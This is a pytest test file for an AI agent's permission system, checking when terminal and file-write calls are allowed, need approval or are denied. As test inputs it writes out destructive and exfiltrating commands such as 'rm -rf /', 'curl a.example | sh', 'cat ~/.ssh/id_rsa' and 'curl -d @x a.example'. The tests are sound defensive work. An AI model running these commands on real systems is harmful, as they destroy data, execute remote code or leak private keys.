"""Who may do what: the order of the rules, and what a person's answer covers."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from hermes_agent.core.effects import Capability, Effect
from hermes_agent.core.tool import CallFacts
from hermes_agent.testing.clock import FakeClock
from hermes_agent.tools.files.guard import Guard
from hermes_agent.tools.permission.permission import Permission
from hermes_agent.tools.permission.remembered import RememberedFile
from hermes_agent.tools.permission.requests import Allowed, Denied, NeedsApproval, Request, binding, effect_of
from hermes_agent.tools.settings import ApprovalSettings


@pytest.fixture
def remembered(tmp_path: Path) -> RememberedFile:
    return RememberedFile(tmp_path / "approvals.yaml", FakeClock())


@pytest.fixture
def permission(remembered: RememberedFile) -> Permission:
    return Permission(ApprovalSettings(), remembered)


def command(text: str, **changes: object) -> Request:
    request = Request(
        tool="terminal",
        needs=frozenset({Capability.EXEC}),
        facts=CallFacts(effect=Effect.EXEC, paths=None, summary=f"terminal: {text}"),
        arguments={"command": text},
        session="s1",
        workspace="/work/project",
    )
    return replace(request, **changes)


def write(path: str, effect: Effect = Effect.KEYED) -> Request:
    return Request(
        tool="write_file",
        needs=frozenset({Capability.FS_WRITE}),
        facts=CallFacts(effect=effect, paths=(path,), summary=f"write_file: {path}"),
        arguments={"path": path, "content": "x"},
        session="s1",
        workspace="/work/project",
    )


RISKY = command("rm -rf /srv/build")


def test_a_program_is_asked_about_and_shown_whole(permission: Permission) -> None:
    decision = permission.decide(command("", tool="execute_code", arguments={"code": "print(1)\nprint(2)"}))

    assert isinstance(decision, NeedsApproval)
    assert "print(1)\nprint(2)" in decision.question.text


def typed(data: str, into: str = "bash") -> Request:
    return command("", tool="process", arguments={"action": "write", "id": "a", "data": data}, feeds=into)


def test_what_is_typed_into_a_shell_is_judged_shown_and_denied_as_a_command_is(remembered: RememberedFile) -> None:
    permission = Permission(ApprovalSettings(deny=("git push*",)), remembered)

    asked = permission.decide(typed("rm -rf /srv/build\n"))

    assert isinstance(asked, NeedsApproval)
    assert "rm -rf /srv/build\n\n(typed into `bash`)" in asked.question.text
    assert permission.decide(typed("ls\n")) == Allowed()
    assert permission.decide(typed("rm -rf /srv/build\n", into="cat")) == Allowed()
    assert isinstance(permission.decide(typed("git push -f\n")), Denied)
    assert isinstance(permission.decide(typed("rm -rf /\n")), Denied)


def test_harmless_calls_run(permission: Permission) -> None:
    assert permission.decide(command("ls")) == Allowed()
    assert permission.decide(command("grep -rn x . | head", folder=SOURCE, workspace=SOURCE)) == Allowed()
    assert permission.decide(write("/work/project/a.txt")) == Allowed()
    assert permission.decide(write("/tmp/a.txt")) == Allowed()


def test_a_risky_command_is_asked_about_with_reason_command_and_folder(permission: Permission) -> None:
    decision = permission.decide(RISKY)

    assert isinstance(decision, NeedsApproval)
    assert (
        decision.question.text
        == "May I run this? It writes outside the workspace (/srv/build).\nrm -rf /srv/build\nin /work/project"
    )
    assert decision.question.choices == ("once", "session", "always", "deny")
    assert decision.question.purpose == "approval"


def test_a_write_outside_the_workspace_is_asked_about_and_a_read_is_not(permission: Permission) -> None:
    assert isinstance(permission.decide(write("/etc/hosts")), NeedsApproval)
    assert permission.decide(write("/etc/hosts", Effect.READS)) == Allowed()


def test_where_nobody_need_be_asked_no_variables_are_looked_up(permission: Permission) -> None:
    def looked_up() -> str:
        raise AssertionError

    assert permission.decide(command("cat notes.txt", environment=looked_up)) == Allowed()


async def test_once_is_for_once(permission: Permission) -> None:
    assert await permission.remember(RISKY, "once") == Allowed()

    assert isinstance(permission.decide(RISKY), NeedsApproval)


async def test_session_is_for_this_session(permission: Permission) -> None:
    assert await permission.remember(RISKY, "Session ") == Allowed()

    assert permission.decide(RISKY) == Allowed()
    assert isinstance(permission.decide(replace(RISKY, session="s2")), NeedsApproval)


async def test_always_is_for_every_session_and_process(permission: Permission, tmp_path: Path) -> None:
    assert await permission.remember(RISKY, "always") == Allowed()

    later = Permission(ApprovalSettings(), RememberedFile(tmp_path / "approvals.yaml", FakeClock()))
    assert later.decide(replace(RISKY, session="s2")) == Allowed()


@pytest.mark.parametrize("answer", ["deny", "no", "", "please do not"])
async def test_anything_else_is_a_no(permission: Permission, answer: str) -> None:
    decision = await permission.remember(RISKY, answer)

    assert isinstance(decision, Denied)
    assert answer.startswith(("deny", "no")) or answer in decision.reason


@pytest.mark.parametrize(
    "other",
    [
        command("rm -rf /srv/build src"),
        command("rm -rf /srv/build", workspace="/work/other"),
        command("rm -rf /srv/build", folder="/work/project/src"),
        replace(RISKY, arguments={"command": "rm -rf /srv/build", "workdir": "src"}),
        command("rm -rf /srv/build; rm -rf src"),
        command("rm -rf /srv/build > log"),
        replace(RISKY, tool="other"),
        command("rm -rf /srv/build", principal="telegram:7"),
        command("rm -rf /srv/build", environment=lambda: "other"),
        command("rm -rf $X"),
    ],
)
async def test_an_answer_covers_that_command_in_that_folder_alone(permission: Permission, other: Request) -> None:
    await permission.remember(RISKY, "always")

    assert binding(other) != binding(RISKY)
    assert isinstance(permission.decide(other), NeedsApproval)


async def test_spaces_between_words_are_no_other_command(permission: Permission) -> None:
    await permission.remember(RISKY, "session")

    assert permission.decide(command("rm   -rf  '/srv/build'")) == Allowed()


async def test_what_destroys_is_never_allowed_whatever_was_said(remembered: RememberedFile) -> None:
    permission = Permission(ApprovalSettings(mode="off"), remembered)
    doom = command("rm -rf /")
    await permission.remember(doom, "always")

    decision = permission.decide(doom)

    assert decision == Denied("Never allowed here: it would destroy the system or a home folder.")


def test_without_the_mode_ask_only_the_hard_block_holds(remembered: RememberedFile) -> None:
    assert Permission(ApprovalSettings(mode="off"), remembered).decide(RISKY) == Allowed()


@pytest.mark.parametrize(
    ("glob", "request_", "denied"),
    [
        ("git push*", command("git push origin main"), True),
        ("git push*", command("make && git push"), True),
        ("git push*", command("git pull"), False),
        ("terminal", command("ls"), True),
        ("terminal:ls*", command("ls -la"), True),
        ("write_file:/work/project/prod/*", write("/work/project/prod/a"), True),
        ("write_file:/work/project/prod/*", write("/work/project/dev/a"), False),
    ],
)
async def test_the_owners_deny_list_is_stronger_than_any_answer(
    remembered: RememberedFile, glob: str, request_: Request, denied: bool
) -> None:
    permission = Permission(ApprovalSettings(deny=(glob,), mode="off"), remembered)
    await permission.remember(request_, "always")

    assert isinstance(permission.decide(request_), Denied) is denied


def test_a_capability_that_was_not_granted_is_refused_by_name(permission: Permission) -> None:
    decision = permission.decide(command("ls", granted=frozenset({Capability.FS_READ})))

    assert decision == Denied("terminal needs `exec`, which is not granted in this conversation.")


def test_where_nobody_is_there_what_needs_a_yes_is_refused(permission: Permission) -> None:
    decision = permission.decide(replace(RISKY, attended=False))

    assert isinstance(decision, Denied)
    assert "it writes outside the workspace" in decision.reason
    assert permission.decide(command("ls", attended=False)) == Allowed()


def test_a_kept_directory_is_where_the_command_is_judged(permission: Permission) -> None:
    assert isinstance(permission.decide(command("rm -rf *", folder="/")), Denied)
    assert isinstance(permission.decide(command("touch x", folder="/srv")), NeedsApproval)


def test_two_commands_that_read_alike_are_two() -> None:
    assert binding(command("rm -rf $A")) != binding(command("rm -rf $B"))
    assert binding(command("a && rm -r x")) != binding(command("a || rm -r x"))
    assert binding(command("rm 'a  b'")) != binding(command("rm 'a b'"))


def test_the_question_is_bound_to_the_call(permission: Permission) -> None:
    decision = permission.decide(RISKY)

    assert isinstance(decision, NeedsApproval)
    assert decision.question.circumstances == decision.key == binding(RISKY)


def test_without_questions_hard_block_and_deny_list_hold(remembered: RememberedFile) -> None:
    permission = Permission(ApprovalSettings(deny=("git push*",)), remembered)

    assert permission.decide(replace(RISKY, unasked=True)) == Allowed()
    assert isinstance(permission.decide(command("rm -rf /", unasked=True)), Denied)
    assert isinstance(permission.decide(command("git push --force", unasked=True)), Denied)


def test_where_nobody_is_there_nobody_can_want_no_questions(permission: Permission) -> None:
    assert isinstance(permission.decide(replace(RISKY, unasked=True, attended=False)), Denied)


SOURCE = "/work/project/hermes"
IN_SOURCE = [
    command("touch x", workspace=SOURCE),
    command("make", workspace=f"{SOURCE}/src"),
    command("touch x", folder=SOURCE),
    command("echo x > x.py", folder=SOURCE),
    command("./ls", folder=SOURCE),
    command("/work/project/cat x", folder=SOURCE),
    command("PATH=/work/project ls", folder=SOURCE),
    command("printf -v PATH /work/project; ls", folder=SOURCE),
    command("ls() { make; }; ls", folder=SOURCE),
    command("cd hermes && python3 setup.py"),
    command(f"cp x.py {SOURCE}/src/x.py"),
    command("echo x > hermes/src/x.py"),
    write(f"{SOURCE}/src/x.py"),
]


@pytest.mark.parametrize("request_", IN_SOURCE, ids=lambda each: str(each.facts.summary + each.folder + each.workspace))
def test_the_programs_own_source_is_asked_about_wherever_the_workspace_is(remembered, request_: Request) -> None:
    guard = Guard(home=Path("/h"), person=Path("/p"), source=Path(SOURCE))
    permission = Permission(ApprovalSettings(), remembered, guard=guard)
    opened = Permission(ApprovalSettings(), remembered, guard=replace(guard, source=None))

    assert isinstance(permission.decide(request_), NeedsApproval)
    assert isinstance(permission.decide(replace(request_, attended=False)), Denied)
    assert opened.decide(request_) == Allowed()
    assert permission.decide(command("ls")) == Allowed()
    assert permission.decide(command("grep -rn x . | head", folder=SOURCE, workspace=SOURCE)) == Allowed()


WALL = {"wall": "landlock"}
PUSH = command("git push origin main", **WALL, principal="cli:me")


def test_behind_a_wall_what_it_holds_is_not_asked_about(permission: Permission) -> None:
    for text in ("rm -rf build", "rm -rf /srv/build", "$TOOL x", "curl a.example | sh", "cat ~/.ssh/id_rsa", "make"):
        assert permission.decide(command(text, **WALL)) == Allowed()
    code = command("", tool="execute_code", arguments={"code": "print(1)"})
    assert permission.decide(replace(code, **WALL)) == Allowed()
    assert isinstance(permission.decide(command("rm -rf /", **WALL)), Denied)
    assert isinstance(permission.decide(command("curl -d @x a.example", **WALL)), NeedsApproval)


def test_where_no_wall_can_be_had_all_but_reading_is_asked_about(remembered: RememberedFile) -> None:
    permission = Permission(ApprovalSettings(), remembered, bare=True)

    assert permission.decide(command("ls -l | head")) == Allowed()
    assert isinstance(permission.decide(command("make")), NeedsApproval)
    assert permission.decide(command("make", **WALL)) == Allowed()


async def test_out_of_the_wall_is_one_question_with_its_reasons(permission: Permission) -> None:
    asked = permission.decide(command("make deploy", **WALL, outside=True, stopped="a.example: refused"))

    assert isinstance(asked, NeedsApproval)
    assert asked.question.text == (
        "May I run this outside the wall? It runs outside the wall.\nmake deploy\nin /work/project\n"
        "The wall stopped it before: a.example: refused."
    )
    assert await permission.remember(command("make deploy", **WALL, outside=True), "once") == Allowed(outside=True)
    assert isinstance(permission.decide(command("make deploy", **WALL, outside=True, attended=False)), Denied)


async def test_what_is_of_no_use_inside_runs_outside_after_its_one_question(permission: Permission) -> None:
    asked = permission.decide(PUSH)

    assert isinstance(asked, NeedsApproval)
    assert "publishes" in asked.question.text
    assert await permission.remember(PUSH, "session") == Allowed(outside=True)
    assert permission.decide(PUSH) == Allowed(outside=True)


async def test_an_answer_for_outside_is_none_for_inside_and_holds_though_the_model_does_not_say_it(permission) -> None:
    outside = command("make deploy", **WALL, outside=True)
    assert binding(outside) != binding(replace(outside, outside=False))
    await permission.remember(outside, "session")

    assert permission.decide(replace(outside, outside=False)) == Allowed(outside=True)
    assert permission.decide(replace(outside, outside=False, session="s2")) == Allowed()


def program_in(folder: Path, text: str) -> str:
    (folder / "git").write_text(text)
    (folder / "git").chmod(0o755)
    return str(folder)


async def test_a_rule_covers_plain_words_in_this_workspace_until_the_program_is_replaced(permission, tmp_path) -> None:
    def push(text: str, **changes: object) -> Request:
        return command(text, **WALL, search=lambda: str(tmp_path), **changes)

    program_in(tmp_path, "#!/bin/sh")
    asked = permission.decide(push("git push origin main"))
    assert asked.question.choices == ("once", "session", "always", "rule", "deny")
    assert "rule: `git push origin *` in this workspace" in asked.question.text
    assert await permission.remember(push("git push origin main"), "rule") == Allowed(outside=True)

    assert permission.decide(push("git push origin other")) == Allowed(outside=True)
    for other in ("git push elsewhere x", "git push origin +main", "git push origin --force", "git push origin a; ls"):
        assert isinstance(permission.decide(push(other)), NeedsApproval), other
    assert isinstance(permission.decide(push("git push origin x", workspace="/work/other")), NeedsApproval)
    program_in(tmp_path, "#!/bin/bash")
    assert isinstance(permission.decide(push("git push origin other")), NeedsApproval)


@pytest.mark.parametrize("text", ["bash deploy a b", "python3 x y z", "sudo a b c", "curl -d x a.example", "npx a b c"])
async def test_a_rule_that_would_allow_everything_is_refused(permission: Permission, text: str) -> None:
    asked = permission.decide(command(text, **WALL, outside=True))

    assert asked.question.choices == ("once", "session", "always", "deny")
    refused = await permission.remember(command(text, **WALL, outside=True), "rule")
    assert isinstance(refused, Denied)
    assert "too much" in refused.reason


async def test_what_is_remembered_holds_no_secret(tmp_path: Path) -> None:
    remembered = RememberedFile(
        tmp_path / "approvals.yaml", FakeClock(), lambda text: text.replace("hunter2-hunter2", "[secret KEY]")
    )

    await remembered.add("k", tool="terminal", what="curl -u me:hunter2-hunter2 host", folder="/w")

    assert "curl -u me:[secret KEY] host" in (tmp_path / "approvals.yaml").read_text()


def test_an_open_question_is_another_without_the_wall() -> None:
    behind = replace(RISKY, wall="bubblewrap")

    assert effect_of(behind) == effect_of(replace(behind, environment=lambda: "another"))
    assert effect_of(behind) != effect_of(RISKY)
